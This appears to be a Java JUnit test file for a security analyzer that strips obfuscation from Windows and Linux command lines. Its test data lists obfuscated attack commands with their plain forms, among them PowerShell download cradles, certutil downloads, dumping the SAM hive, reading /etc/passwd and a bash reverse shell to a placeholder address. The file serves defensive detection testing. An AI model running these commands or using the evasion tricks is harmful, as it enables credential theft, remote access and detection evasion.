package dev.spoor.analyzer.cmdline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What a command line says without its obfuscation. */
class NormalisedTest {
    private static String windows(String line) {
        return of(line, Platform.WINDOWS);
    }

    private static String linux(String line) {
        return of(line, Platform.LINUX);
    }

    private static String of(String line, Platform platform) {
        Normalised normalised = new Normalised();
        byte[] b = ("##" + line + "##").getBytes(StandardCharsets.UTF_8);
        normalised.read(b, 2, b.length - 2, platform);
        return new String(normalised.bytes(), 0, normalised.length(), StandardCharsets.UTF_8).toLowerCase(Locale.ROOT);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\u00a4',
            value = {
                "p^o^w^e^r^s^h^e^l^l -e^n^c AAAA ¦ powershell -enc aaaa",
                "\"C:\\Windows\\System32\\CERTUTIL.EXE\"  -urlcache   -f http://x/y ¦ certutil -urlcache -f http://x/y",
                "c\"\"ert\"u\"til -decode a b ¦ certutil -decode a b",
                "%COMSPEC% /c whoami ¦ cmd /c whoami",
                "%ComSpec:~-7,3%.exe /c dir ¦ cmd /c dir",
                "cmd /c %PROGRAMDATA:~0,1%%SystemRoot:~3,1% ¦ cmd /c cw",
                "cmd /c set x=power&& set y=shell&& call %x%%y% -nop ¦ cmd /c set x=power&& set y=shell&& call"
                        + " powershell -nop",
                "powershell IE`X (nE`w-obj`ect net.webclient) ¦ powershell iex (new-object net.webclient)",
                "powershell 'down'+'load'+'string' ¦ powershell downloadstring",
                "powershell \"Invoke\" + \"-Expression\" ¦ powershell invoke-expression",
                "powershell $env:comspec /c dir ¦ powershell c:\\windows\\system32\\cmd.exe /c dir",
                "reg\u00a0save\u2003hklm\\sam \u2013y a ¦ reg save hklm\\sam -y a",
                "\uff43\uff45rtutil \uff0durlcache ¦ certutil -urlcache",
                "cert\u200butil -f ¦ certutil -f",
                "C:\\Program Files\\Tool\\tool.exe -x ¦ tool -x",
                "cmd.exe /c \"\"C:\\Program Files\\a b\\c.exe\" -x\" ¦ cmd /c c -x",
                "cmd,/c,dir ¦ cmd /c,dir",
                "type C:\\\\Windows\\.\\x ¦ type c:\\windows\\x",
                "dir \\\\host\\share\\\\x ¦ dir \\\\host\\share\\x",
            })
    void windowsShells(String line, String plain) {
        assertEquals(plain, windows(line));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\u00a4',
            value = {
                "cat$IFS/etc/passwd ¦ cat /etc/passwd",
                "cat${IFS}$9/etc/passwd ¦ cat /etc/passwd",
                "{cat,/etc/passwd} ¦ cat /etc/passwd",
                "c'a't /e\"t\"c/pass''wd ¦ cat /etc/passwd",
                "c\\a\\t /etc/passwd ¦ cat /etc/passwd",
                "c$@at /etc/pa$*sswd ¦ cat /etc/passwd",
                "ca${x}t /etc/passwd ¦ cat /etc/passwd",
                "$'\\x63\\141t' /etc/passwd ¦ cat /etc/passwd",
                "a=c;b=at;$a$b /etc/passwd ¦ a=c;b=at;cat /etc/passwd",
                "cat ${HOME:0:1}etc${PATH:0:1}passwd ¦ cat /etc/passwd",
                "/usr//bin/./curl http://x.example//a ¦ curl http://x.example/a",
                "sudo -u root /usr/bin/vim a ¦ sudo -u root vim a",
                "bash -c '/usr/bin/id;/bin/uname -a' ¦ bash -c id;uname -a",
                "bash -i >& /dev/tcp/192.0.2.1/1 0>&1;id &>/tmp/x ¦ bash -i >& /dev/tcp/192.0.2.1/1 0>&1;id &>/tmp/x",
                "env A=b nohup /tmp/x & ¦ env a=b nohup x &",
            })
    void linuxShells(String line, String plain) {
        assertEquals(plain, linux(line));
    }

    @Test
    void everyByteKnowsWhereItStood() {
        Normalised normalised = new Normalised();
        String line = "\"C:\\x\\cert^util.exe\"   -urlcache";
        byte[] b = line.getBytes(StandardCharsets.UTF_8);
        normalised.read(b, 0, b.length, Platform.WINDOWS);
        String plain = new String(normalised.bytes(), 0, normalised.length(), StandardCharsets.UTF_8);
        assertEquals("certutil -urlcache", plain);
        assertEquals(line.indexOf("cert"), normalised.place(0));
        assertEquals(line.indexOf("util"), normalised.place(plain.indexOf("util")));
        assertEquals(line.indexOf("-url"), normalised.place(plain.indexOf("-url")));
    }

    @Test
    void anythingIsReadInBounds() {
        Random random = new Random(7);
        String alphabet = "ab%^\"'`$\\/{}()=;&|<> :~-,.\u2013\u00a0\uff41!0\n@*";
        Normalised normalised = new Normalised();
        for (int i = 0; i < 30_000; i++) {
            StringBuilder line = new StringBuilder();
            for (int n = random.nextInt(60); n > 0; n--) {
                line.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            byte[] b = line.toString().getBytes(StandardCharsets.UTF_8);
            int cut = random.nextInt(b.length + 1);
            normalised.read(b, 0, cut, Platform.values()[i % 3]);
            for (int at = 0; at < normalised.length(); at++) {
                assertTrue(normalised.place(at) >= 0 && normalised.place(at) < cut, line::toString);
            }
            for (int c = 0; c < normalised.commands(); c++) {
                assertTrue(
                        normalised.start(c) < normalised.programEnd(c)
                                && normalised.programEnd(c) <= normalised.length() + 1,
                        line::toString);
            }
        }
    }
}
